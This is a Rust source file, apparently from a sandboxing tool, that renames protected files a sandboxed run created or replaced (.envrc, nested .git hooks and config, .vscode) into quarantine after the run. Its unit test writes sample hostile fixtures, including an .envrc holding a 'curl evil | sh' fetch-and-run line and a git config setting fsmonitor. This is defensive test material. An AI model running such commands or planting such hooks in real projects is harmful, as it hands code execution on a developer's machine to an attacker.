//! After a run: protected entries the run created are renamed out of use.
//!
//! A mount can only cover what exists, so a protected name that was missing
//! when the run started (`.envrc`, a `.vscode/`, a new `sub/.git/`) could be
//! created by the payload. Once every process of the run is gone, nothing can
//! race this walk: each such entry, and each protected entry that is no longer
//! the object the scan saw (a symlink swapped for another), is renamed in
//! place to `NAME.sandbox-quarantine-RUN`. Nothing is deleted, and nothing the
//! host reads (git, direnv, editors, agents) looks at that name.

use std::collections::HashMap;
use std::ffi::OsStr;
use std::os::fd::{AsFd, OwnedFd};
use std::os::unix::ffi::OsStrExt;
use std::path::{Path, PathBuf};

use nix::dir::Type;
use nix::fcntl::RenameFlags;
use nix::sys::stat::Mode;
use serde::Serialize;

use super::scan::{self, Identity, ScanError};
use super::Rules;

/// One entry moved aside.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Quarantined {
    /// Where the run left it, below the project root.
    pub path: PathBuf,
    /// Where it is now, below the project root.
    pub moved_to: PathBuf,
}

/// What the sweep did.
#[derive(Debug, Clone, Default, Serialize)]
pub struct Sweep {
    /// Entries renamed.
    pub quarantined: Vec<Quarantined>,
    /// Entries that should have been renamed and could not be, with why.
    pub failed: Vec<(PathBuf, String)>,
}

struct Sweeper<'a> {
    rules: &'a Rules,
    before: &'a HashMap<PathBuf, Identity>,
    suffix: String,
    sweep: Sweep,
    components: Vec<Vec<u8>>,
}

const MAX_DEPTH: usize = 256;

fn relative(components: &[Vec<u8>]) -> PathBuf {
    components.iter().map(|c| OsStr::from_bytes(c)).collect()
}

impl Sweeper<'_> {
    fn walk(&mut self, dir: &OwnedFd) {
        let here = relative(&self.components);
        if self.components.len() >= MAX_DEPTH {
            self.sweep
                .failed
                .push((here, "nested too deep to sweep".into()));
            return;
        }
        let names = match scan::list(dir, &here) {
            Ok(names) => names,
            Err(err) => {
                self.sweep.failed.push((here, err.to_string()));
                return;
            }
        };
        for (name, reported) in names {
            self.components.push(name.clone());
            self.entry(dir, &name, reported);
            self.components.pop();
        }
    }

    fn entry(&mut self, dir: &OwnedFd, name: &[u8], reported: Option<Type>) {
        let path = relative(&self.components);
        let stat = match reported {
            Some(_) => None,
            None => match scan::stat_at(dir, name, &path) {
                Ok(s) => Some(s),
                Err(_) => return, // gone since listed: nothing to sweep
            },
        };
        let kind = reported.or(stat.as_ref().map(scan::kind_of));
        let is_dir = kind == Some(Type::Directory);
        if self
            .rules
            .secrets
            .matching(&self.components, is_dir)
            .is_some()
        {
            return; // masked during the run: what is below is not the run's
        }
        if self.rules.is_protected(&self.components, is_dir) {
            let stat = match stat {
                Some(s) => s,
                None => match scan::stat_at(dir, name, &path) {
                    Ok(s) => s,
                    Err(_) => return,
                },
            };
            let identity = Identity::of(&stat);
            if self.before.get(&path) == Some(&identity) {
                return; // the entry the run was shown, read-only throughout
            }
            self.quarantine(dir, name, path);
            return;
        }
        if is_dir {
            match nix::fcntl::openat(
                dir.as_fd(),
                OsStr::from_bytes(name),
                scan_dir_flags(),
                Mode::empty(),
            ) {
                Ok(child) => self.walk(&child),
                Err(errno) => self.sweep.failed.push((path, errno.desc().into())),
            }
        }
    }

    fn quarantine(&mut self, dir: &OwnedFd, name: &[u8], path: PathBuf) {
        for attempt in 0..100u32 {
            let mut new_name = name.to_vec();
            new_name.extend_from_slice(self.suffix.as_bytes());
            if attempt > 0 {
                new_name.extend_from_slice(format!("-{attempt}").as_bytes());
            }
            match nix::fcntl::renameat2(
                dir.as_fd(),
                OsStr::from_bytes(name),
                dir.as_fd(),
                OsStr::from_bytes(&new_name),
                RenameFlags::RENAME_NOREPLACE,
            ) {
                Ok(()) => {
                    let moved_to = path
                        .parent()
                        .unwrap_or(Path::new(""))
                        .join(OsStr::from_bytes(&new_name));
                    self.sweep.quarantined.push(Quarantined { path, moved_to });
                    return;
                }
                Err(nix::errno::Errno::EEXIST) => continue,
                Err(errno) => {
                    self.sweep.failed.push((path, errno.desc().into()));
                    return;
                }
            }
        }
        self.sweep
            .failed
            .push((path, "every quarantine name is taken".into()));
    }
}

fn scan_dir_flags() -> nix::fcntl::OFlag {
    use nix::fcntl::OFlag;
    OFlag::O_RDONLY | OFlag::O_DIRECTORY | OFlag::O_NOFOLLOW | OFlag::O_CLOEXEC
}

/// Sweep the project at `root` after a run named `run` (used in the new
/// names). `before` is what the scan found protected.
pub fn sweep(
    root: &Path,
    rules: &Rules,
    before: &HashMap<PathBuf, Identity>,
    run: &str,
) -> Result<Sweep, ScanError> {
    let dir = scan::open_root(root)?;
    let mut sweeper = Sweeper {
        rules,
        before,
        suffix: format!(".sandbox-quarantine-{run}"),
        sweep: Sweep::default(),
        components: Vec::new(),
    };
    sweeper.walk(&dir);
    Ok(sweeper.sweep)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::project::scan::scan;
    use crate::project::{HardlinkPolicy, PatternList};

    #[test]
    fn new_protected_entries_are_renamed_and_old_ones_kept() {
        let rules = Rules {
            secrets: PatternList::parse(&[".env"]).unwrap(),
            protect: PatternList::parse(&[".git/**/hooks", ".git/**/config", ".envrc", ".vscode/"])
                .unwrap(),
        };
        let project = tempfile::tempdir().unwrap();
        let p = project.path();
        std::fs::create_dir_all(p.join(".git/hooks")).unwrap();
        std::fs::write(p.join(".git/config"), "[core]").unwrap();
        let before = scan(p, &rules, true, HardlinkPolicy::ReadOnly).unwrap();

        // What a run could have done where no mount covered it.
        std::fs::write(p.join(".envrc"), "curl evil | sh").unwrap();
        std::fs::create_dir_all(p.join("deep/sub/.git/hooks")).unwrap();
        std::fs::write(p.join("deep/sub/.git/hooks/post-checkout"), "evil").unwrap();
        std::fs::write(p.join("deep/sub/.git/config"), "[core] fsmonitor = evil").unwrap();
        std::fs::write(p.join("deep/.git"), "gitdir: ../evil").unwrap();
        std::fs::write(p.join(".env"), "not swept: a secret, not protected").unwrap();

        let sweep = sweep(p, &rules, &before.protected_before, "r1").unwrap();
        let mut moved: Vec<String> = sweep
            .quarantined
            .iter()
            .map(|q| q.path.display().to_string())
            .collect();
        moved.sort();
        assert_eq!(
            moved,
            [
                ".envrc",
                "deep/.git",
                "deep/sub/.git/config",
                "deep/sub/.git/hooks"
            ]
        );
        assert!(sweep.failed.is_empty(), "{:?}", sweep.failed);
        assert!(!p.join(".envrc").exists());
        assert_eq!(
            std::fs::read_to_string(p.join(".envrc.sandbox-quarantine-r1")).unwrap(),
            "curl evil | sh"
        );
        assert!(p.join(".git/hooks").is_dir() && p.join(".git/config").is_file());
        assert!(p.join(".env").exists());
    }
}
